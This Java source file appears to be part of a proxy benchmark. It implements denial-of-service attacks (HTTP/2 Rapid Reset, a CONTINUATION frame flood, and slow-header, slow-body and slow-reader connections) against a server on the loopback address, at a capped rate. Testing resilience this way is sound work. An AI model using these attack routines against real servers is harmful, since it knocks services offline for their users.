package dev.dormouse.bench;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicLong;

/**
 * A way to wear a proxy out, on so many connections; each that is ended is opened again at once.
 * The pace is bounded, since attacker, proxy and victim share the processors here. One virtual
 * thread a connection.
 */
enum Attack {
  /** Two thousand requests a second, ten in one write, each given up at once. */
  RAPID_RESET(4) {
    @Override
    void on(Socket socket, String host, Going going) throws IOException, InterruptedException {
      byte[] block = Http2Bytes.request("GET", host, "/1000");
      send(socket, Http2Bytes.hello());
      int stream = 1;
      while (going.on()) {
        ByteArrayOutputStream burst = new ByteArrayOutputStream();
        for (int i = 0; i < BURST; i++) {
          int flags = Http2Bytes.END_HEADERS | Http2Bytes.END_STREAM;
          burst.writeBytes(Http2Bytes.frame(Http2Bytes.HEADERS, flags, stream, block));
          burst.writeBytes(Http2Bytes.frame(Http2Bytes.RST_STREAM, 0, stream, Http2Bytes.CANCEL));
          stream += 2;
        }
        send(socket, burst.toByteArray());
        pause(20);
      }
    }
  },

  /** Two thousand frames a second of headers that go on without a byte. */
  CONTINUATION_FLOOD(4) {
    @Override
    void on(Socket socket, String host, Going going) throws IOException, InterruptedException {
      byte[] block = Http2Bytes.request("GET", host, "/1000");
      send(socket, Http2Bytes.hello());
      send(socket, Http2Bytes.frame(Http2Bytes.HEADERS, Http2Bytes.END_STREAM, 1, block));
      byte[] more = Http2Bytes.frame(Http2Bytes.CONTINUATION, 0, 1, Http2Bytes.NOTHING);
      while (going.on()) {
        send(socket, more);
        pause(2);
      }
    }
  },

  /** A header of which a line comes each second. */
  SLOW_HEADERS(1000) {
    @Override
    void on(Socket socket, String host, Going going) throws IOException, InterruptedException {
      send(socket, "GET /1000 HTTP/1.1\r\nHost: " + host + "\r\n");
      while (going.on()) {
        send(socket, "X-A: b\r\n");
        pause(1000);
      }
    }
  },

  /** A body of which a byte comes each second. */
  SLOW_BODY(500) {
    @Override
    void on(Socket socket, String host, Going going) throws IOException, InterruptedException {
      send(socket, "POST / HTTP/1.1\r\nHost: " + host + "\r\nContent-Length: 1000000\r\n\r\n");
      while (going.on()) {
        send(socket, "x");
        pause(1000);
      }
    }
  },

  /** Large answers of which a byte is read each second. */
  SLOW_READER(100) {
    @Override
    void on(Socket socket, String host, Going going) throws IOException, InterruptedException {
      send(socket, "GET /100000000 HTTP/1.1\r\nHost: " + host + "\r\n\r\n");
      while (going.on() && socket.getInputStream().read() >= 0) {
        pause(1000);
      }
    }
  };

  private static final int RECEIVE_BYTES = 4096;
  private static final int BURST = 10;

  /** So many connections are opened in a second at most, lest the attacker wear itself out. */
  private static final int OPENED_PER_SECOND = 500;

  private final int connections;

  Attack(int connections) {
    this.connections = connections;
  }

  /** Whether it goes on. */
  interface Going {
    boolean on();
  }

  /** Until it is over, or the connection is ended. */
  abstract void on(Socket socket, String host, Going going)
      throws IOException, InterruptedException;

  String title() {
    return name().toLowerCase(java.util.Locale.ROOT).replace('_', '-');
  }

  int connections() {
    return connections;
  }

  /** One that goes on until closed, and counts the connections that it had to open. */
  static final class Running implements AutoCloseable {
    private final AtomicBoolean over = new AtomicBoolean();
    private final AtomicLong opened = new AtomicLong();
    private final List<Thread> threads = new ArrayList<>();

    long opened() {
      return opened.get();
    }

    @Override
    public void close() {
      over.set(true);
      threads.forEach(Thread::interrupt);
      try {
        for (Thread thread : threads) {
          thread.join();
        }
      } catch (InterruptedException e) {
        Thread.currentThread().interrupt();
      }
    }
  }

  /** Returns once all connections are being opened, which takes its time. */
  Running start(int port, String host) throws InterruptedException {
    Running running = new Running();
    for (int i = 0; i < connections; i++) {
      pause(1000 / OPENED_PER_SECOND);
      running.threads.add(Thread.startVirtualThread(() -> keepOn(running, port, host)));
    }
    return running;
  }

  private void keepOn(Running running, int port, String host) {
    while (!running.over.get()) {
      try (Socket socket = new Socket()) {
        socket.setReceiveBufferSize(RECEIVE_BYTES);
        socket.connect(new InetSocketAddress(InetAddress.getLoopbackAddress(), port));
        running.opened.incrementAndGet();
        on(socket, host, () -> !running.over.get());
      } catch (IOException ended) {
        // Another one, then.
      } catch (InterruptedException e) {
        return;
      }
    }
  }

  private static void send(Socket socket, String text) throws IOException {
    send(socket, text.getBytes(ISO_8859_1));
  }

  private static void send(Socket socket, byte[] bytes) throws IOException {
    socket.getOutputStream().write(bytes);
  }

  private static void pause(long millis) throws InterruptedException {
    Thread.sleep(millis);
  }
}
